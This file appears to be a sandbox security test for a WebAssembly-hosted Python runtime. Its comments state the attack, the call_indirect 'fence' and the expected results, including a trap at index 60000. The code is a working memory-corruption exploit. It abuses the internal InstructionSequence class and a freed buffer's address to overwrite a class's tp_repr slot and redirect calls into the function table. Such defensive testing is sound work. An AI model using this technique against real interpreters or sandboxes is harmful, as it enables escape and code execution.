# attack: tp_repr of a class is overwritten: calls through it go to entries 0 to 39 of the function table, of any signature
# fence: call_indirect checks the index and the signature, and traps
# screened: S105
# step: deploy attack ["honest"] => success 'shown'
# step: send attack [3] => *
# step: send attack [400] => *
# step: send attack [900] => *
# step: send attack [60000] => halt TRAP
# step: call attack ["honest"] => success 'shown'
class Thing:
    def __repr__(self):
        return "shown"


thing = Thing()
if args != ["honest"]:
    sequence = next(c for c in object.__subclasses__() if c.__name__ == "InstructionSequence")()
    block = bytes(20)
    at = id(block)
    block = None
    sequence.use_label(0)
    for _ in range(args[0]):
        sequence.addop(1, 0, 0, 0, 0, 0)
    # ob_base 12, name, basicsize, itemsize, dealloc, vectorcall offset, getattr, setattr, async, then repr.
    offset = (id(Thing) + 12 + 8 * 4 - at) >> 2
    sequence.use_label(offset - 2**30 if offset >= 0 else offset)
finish(repr(thing))
